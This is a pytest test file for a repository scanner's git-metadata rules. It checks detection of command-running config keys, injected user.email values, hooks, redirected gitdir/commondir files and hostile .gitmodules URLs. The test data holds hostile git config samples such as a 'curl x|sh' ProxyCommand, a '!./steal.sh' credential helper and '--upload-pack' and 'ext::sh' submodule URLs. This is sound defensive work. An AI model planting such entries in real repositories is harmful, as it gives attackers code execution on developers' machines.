"""Git metadata: .git files, commondir, config commands, user.email, .gitmodules, hooks."""
from __future__ import annotations

import subprocess

import pytest

from ringfence.scan.findings import Severity
from ringfence.scan.rules.git import parse_config

CLONE_CONFIG = """[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
\tlogallrefupdates = true
\tfsmonitor = false
[remote "origin"]
\turl = https://github.com/example/project.git
\tfetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
\tremote = origin
\tmerge = refs/heads/main
[filter "lfs"]
\tsmudge = git-lfs smudge -- %f
\tprocess = git-lfs filter-process
[user]
\temail = dev@example.com
[credential]
\thelper = cache --timeout=3600
"""


def test_real_git_init_is_clean(tree, found):
    root = tree({"README.md": "x\n"})
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "config", "user.email", "dev@example.com"], check=True)
    assert found(root) == []


def test_ordinary_clone_config_is_clean(tree, found):
    assert found(tree({".git/config": CLONE_CONFIG, ".git/hooks/pre-commit.sample": "#!/bin/sh\n"})) == []


@pytest.mark.parametrize("snippet,rule,severity", [
    ("[core]\n\tfsmonitor = ./.hooks/fsmon.sh\n", "git.config-command", Severity.HIGH),
    ("[core]\n\tsshCommand = \"ssh -o ProxyCommand='curl x|sh'\"\n", "git.config-command", Severity.CRITICAL),
    ("[core]\n\thooksPath = .githooks\n", "git.config-hooks-path", Severity.HIGH),
    ('[diff "bin"]\n\ttextconv = ./conv.sh\n', "git.config-command", Severity.HIGH),
    ('[filter "x"]\n\tsmudge = ./smudge.sh %f\n', "git.config-command", Severity.HIGH),
    ("[alias]\n\tst = !sh ./st.sh\n", "git.config-command", Severity.HIGH),
    ("[credential]\n\thelper = !./steal.sh\n", "git.config-command", Severity.HIGH),
    ("[user]\n\temail = \"$(touch /tmp/pwned)@x.com\"\n", "git.user-email", Severity.HIGH),
    ("[include]\n\tpath = ../shared.gitconfig\n", "git.config-include", Severity.MEDIUM),
    ('[protocol "ext"]\n\tallow = always\n', "git.config-weakened", Severity.HIGH),
])
def test_dangerous_config(tree, found, snippet, rule, severity):
    root = tree({".git/config": CLONE_CONFIG + snippet})
    hits = [(f.rule, f.severity, f.line) for f in found(root)]
    assert hits == [(rule, severity, CLONE_CONFIG.count("\n") + 2)]


def test_config_parser_continuations_and_quotes():
    text = '[Core]\n  sshCommand = "ssh \\\n  -v" ; comment\n[a.b]\nflag\n[x "sub \\"q\\""]\nk = v # c\n'
    assert parse_config(text) == [("core", None, "sshcommand", "ssh   -v", 2), ("a", "b", "flag", "", 5),
                                  ("x", 'sub "q"', "k", "v", 7)]


def test_gitfile_and_commondir(tree, found):
    root = tree({".git": "gitdir: /home/victim/trusted/.git/worktrees/x\n", "sub/.git": "gitdir: ../.git/modules/sub\n"})
    assert [(f.rule, f.path, f.severity) for f in found(root)] == [("git.gitfile-outside", ".git", Severity.HIGH)]
    root = tree({".git/config": CLONE_CONFIG, ".git/commondir": "/home/victim/trusted/.git\n"})
    assert [(f.rule, f.severity) for f in found(root)] == [("git.commondir", Severity.HIGH)]


def test_hooks_directory(tree, found):
    root = tree({".git/hooks/post-checkout": "#!/bin/sh\ncurl x\n", ".git/hooks/pre-push.sample": ""})
    (f,) = found(root)
    assert (f.rule, f.path, f.severity) == ("git.hooks", ".git/hooks", Severity.MEDIUM)
    assert "post-checkout" in f.message and "sample" not in f.message


def test_submodule_config_checked(tree, found_rules):
    root = tree({".git/modules/lib/config": "[core]\n\tfsmonitor = ./x\n"})
    assert found_rules(root) == {"git.config-command"}


@pytest.mark.parametrize("url,severity", [
    ("--upload-pack=touch /tmp/x", Severity.CRITICAL), ("ext::sh -c touch% /tmp/pwned", Severity.CRITICAL),
    ("file:///home/victim/.ssh", Severity.MEDIUM), ("/etc", Severity.MEDIUM)])
def test_gitmodules_urls(tree, found, url, severity):
    root = tree({".gitmodules": f'[submodule "lib"]\n\tpath = lib\n\turl = {url}\n'})
    assert [(f.rule, f.severity, f.line) for f in found(root)] == [("gitmodules.url", severity, 3)]


def test_gitmodules_ordinary(tree, found):
    root = tree({".gitmodules": '[submodule "a"]\n\tpath = vendor/a\n\turl = https://github.com/x/a.git\n'
                 '[submodule "b"]\n\tpath = b\n\turl = ../b.git\n\tbranch = main\n'
                 '[submodule "c"]\n\tpath = c\n\turl = git@github.com:x/c.git\n'})
    assert found(root) == []


def test_gitmodules_path_and_update(tree, found_rules):
    root = tree({".gitmodules": '[submodule "x"]\n\tpath = ../../outside\n\turl = https://h/x\n\tupdate = !./run.sh\n'})
    assert found_rules(root) == {"gitmodules.path", "gitmodules.update-command"}


def test_worktree_configs_and_tracked_gitconfig(tree, found):
    root = tree({".git/config.worktree": "[core]\n\tfsmonitor = ./a\n",
                 ".git/worktrees/wt/config.worktree": "[core]\n\tsshCommand = ./b\n",
                 ".git/worktrees/wt/commondir": "../..\n",  # normal for a worktree
                 "tools/.gitconfig": "[core]\n\tpager = ./c\n[user]\n\tname = Dev\n"})
    got = {(f.path, f.rule, f.severity) for f in found(root)}
    assert got == {(".git/config.worktree", "git.config-command", Severity.HIGH),
                   (".git/worktrees/wt/config.worktree", "git.config-command", Severity.HIGH),
                   ("tools/.gitconfig", "git.config-command", Severity.MEDIUM)}
